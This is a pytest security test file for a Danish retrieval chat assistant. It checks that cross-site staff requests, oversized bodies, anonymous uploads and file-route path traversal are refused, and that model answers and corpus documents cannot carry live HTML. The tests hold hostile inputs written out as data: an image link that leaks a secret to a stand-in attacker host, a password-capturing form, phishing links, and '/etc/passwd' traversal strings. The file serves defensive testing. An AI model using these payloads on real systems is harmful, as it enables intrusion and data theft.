"""Attacks on the running app (real server on 127.0.0.1): cross-site staff actions, oversized
histories and bodies, anonymous uploads, public file routes, live HTML in answers.

Each test reproduces an attack from the security review and fails on the code before the fix.
"""

from __future__ import annotations

import threading
import time

import httpx
import pytest
from gradio_client import Client

from assistant.security import lax_cookie, origin_allowed

from .test_app import STAFF, RunningApp

EVIL = "https://evil.example.test"
HOST = "staff.example.test"


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    running = RunningApp(tmp_path_factory.mktemp("security"), name="security")
    yield running
    running.stop()


# --- 1. cross-site staff takeover -----------------------------------------------------------------


def test_origin_rule():
    assert origin_allowed("https://staff.example.test", "staff.example.test", [])
    assert origin_allowed("http://127.0.0.1:7860", "127.0.0.1:7860", [])
    assert not origin_allowed(EVIL, HOST, [])
    assert not origin_allowed("null", HOST, [])
    assert origin_allowed("https://intranet.kommune.dk/", HOST, ["https://intranet.kommune.dk"])
    assert b"SameSite=Lax" in lax_cookie(b"access-token=abc; Path=/; SameSite=none; Secure")
    assert b"none" not in lax_cookie(b"access-token=abc; Path=/; SameSite=none; Secure").lower()


def test_cross_site_preflight_gets_no_credentials(app):
    response = httpx.options(
        f"{app.url}/staff/gradio_api/call/delete",
        headers={"Host": HOST, "Origin": EVIL, "Access-Control-Request-Method": "POST"},
    )
    assert response.headers.get("access-control-allow-origin") != EVIL
    assert response.headers.get("access-control-allow-credentials") != "true" or response.status_code == 403


def test_cross_site_staff_actions_are_refused_even_with_a_login(app):
    staff = httpx.Client(base_url=app.url)
    login = staff.post("/staff/login", data={"username": STAFF[0], "password": STAFF[1]})
    assert login.status_code == 200
    cookie_headers = login.headers.get_list("set-cookie")
    assert cookie_headers and all("samesite=lax" in c.lower() for c in cookie_headers)
    assert not any("samesite=none" in c.lower() for c in cookie_headers)

    for name in ("delete", "resync", "feedback_export", "inventory"):
        attack = staff.post(f"/staff/gradio_api/call/{name}", json={"data": []},
                            headers={"Host": HOST, "Origin": EVIL})
        assert attack.status_code == 403, name
    # A cross-site GET may run, but its response carries nothing the other site may read.
    read = staff.get("/staff/gradio_api/info", headers={"Host": HOST, "Origin": EVIL})
    assert read.headers.get("access-control-allow-origin") is None
    # The same request from the app's own origin still works.
    own = staff.post("/staff/gradio_api/call/inventory", json={"data": []},
                     headers={"Origin": app.url})
    assert own.status_code == 200
    assert (app.corpus / "markedsdialog.md").exists()


# --- 2. stalling the chat through the history --------------------------------------------------------


def test_huge_history_costs_no_more_than_a_normal_question(app):
    client = Client(app.url + "/", verbose=False)
    question = "Må vi holde markedsdialog med leverandører før udbuddet?"
    started = time.perf_counter()
    client.predict(message=question, api_name="/chat")
    normal = time.perf_counter() - started

    history = [{"role": "user", "content": "markedsdialog " * 80_000},  # ~1 MB
               {"role": "assistant", "content": "svar " * 50_000}] * 3
    started = time.perf_counter()
    try:
        answer = client.predict(message="og hvad med det?", history=history[:2], api_name="/chat")
        assert len(answer["standalone_question"]) <= 4200
    except Exception:
        pass  # refused as too large is also a bounded outcome
    assert time.perf_counter() - started < normal + 2.0


def test_request_bodies_are_capped(app):
    body = b'{"data": ["' + b"x" * (3 * 1024 * 1024) + b'"]}'
    response = httpx.post(f"{app.url}/gradio_api/call/chat", content=body,
                          headers={"content-type": "application/json"})
    assert response.status_code == 413


def test_parallel_oversized_requests_do_not_starve_a_normal_user(app):
    body = b'{"data": ["' + b"x" * (3 * 1024 * 1024) + b'"]}'

    def attack():
        for _ in range(3):
            try:
                httpx.post(f"{app.url}/gradio_api/call/chat", content=body,
                           headers={"content-type": "application/json"}, timeout=30)
            except httpx.HTTPError:
                pass

    attackers = [threading.Thread(target=attack) for _ in range(8)]
    for t in attackers:
        t.start()
    started = time.perf_counter()
    Client(app.url + "/", verbose=False).predict(message="Hvad er markedsdialog?", api_name="/chat")
    waited = time.perf_counter() - started
    for t in attackers:
        t.join()
    assert waited < 15


# --- 3. anonymous uploads and public file routes -------------------------------------------------------


def test_public_app_refuses_uploads_and_file_routes(app, tmp_path):
    upload = httpx.post(f"{app.url}/gradio_api/upload", files={"files": ("x.txt", b"a" * 1000)})
    assert upload.status_code in (403, 404, 413)
    assert "/tmp" not in upload.text and "gradio" not in upload.text.lower()
    fetched = httpx.get(f"{app.url}/gradio_api/file=/etc/hostname")
    assert fetched.status_code in (403, 404)


def test_staff_upload_route_needs_login_and_is_size_capped(app):
    anonymous = httpx.post(f"{app.url}/staff/gradio_api/upload", files={"files": ("x.md", b"# a\n")})
    assert anonymous.status_code in (401, 403)
    staff = httpx.Client(base_url=app.url)
    staff.post("/staff/login", data={"username": STAFF[0], "password": STAFF[1]})
    too_big = b"x" * (60 * 1024 * 1024)  # the ingest limit is 50 MB
    response = staff.post("/staff/gradio_api/upload", files={"files": ("big.md", too_big)})
    assert response.status_code == 413


def test_staff_without_trailing_slash_is_found(app):
    response = httpx.get(f"{app.url}/staff", follow_redirects=True)
    assert response.status_code == 200


# --- 4. document and model text rendered inert -----------------------------------------------------


def test_model_markdown_loses_images_raw_html_and_foreign_links():
    from assistant.answer import Answer
    from assistant.ui import render_answer

    hostile = ("Svar [1]. ![x](http://evil.example.test/leak?q=secret) <img src=http://evil.example.test/a> "
               "<form action=https://evil.example.test><input name=password></form> "
               "[klik](https://evil.example.test/phish) [kilde](/files/markedsdialog.md)")
    shown = render_answer(Answer("q", hostile, False, "llm"), "da")
    assert "evil.example.test/leak" not in shown and "<img" not in shown and "<form" not in shown
    assert "](https://evil.example.test/phish)" not in shown
    assert "[kilde](/files/markedsdialog.md)" in shown


def test_document_html_is_quoted_as_text(tmp_path):
    from assistant.answer import Assistant
    from assistant.retrieval import Retriever
    from assistant.store import Store
    from assistant.sync import sync

    from .conftest import settings_for

    settings = settings_for(tmp_path)
    (settings.corpus_dir / "hostile.md").write_text(
        "---\ntitle: Droner\nlanguage: da\n---\n# Droner\n\n## Krav til droner\n"
        "Havnedroner skal kunne flyve i kraftig vind ![](http://evil.example.test/x.png) "
        "<img src=http://evil.example.test/y.png> &lt;img src=http://evil.example.test/z.png&gt;.\n",
        encoding="utf-8")
    store = Store(settings)
    sync(store, settings, [settings.corpus_dir])
    answer = Assistant(Retriever(store, settings), settings).ask("Hvor kraftig vind skal havnedroner kunne flyve i?")
    assert "<img" not in answer.answer and "![](" not in answer.answer


# --- 6. /files/ serves only ingested documents ------------------------------------------------------


def test_files_route_serves_only_ingested_documents(app):
    (app.corpus / ".git").mkdir(exist_ok=True)
    (app.corpus / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (app.corpus / "notes.bin").write_bytes(b"\x00\x01secret")
    assert httpx.get(f"{app.url}/files/markedsdialog.md").status_code == 200
    for path in (".git/config", "notes.bin", "..%2F..%2Fetc%2Fpasswd", "a%00b.md", "x" * 5000):
        assert httpx.get(f"{app.url}/files/{path}").status_code == 404, path
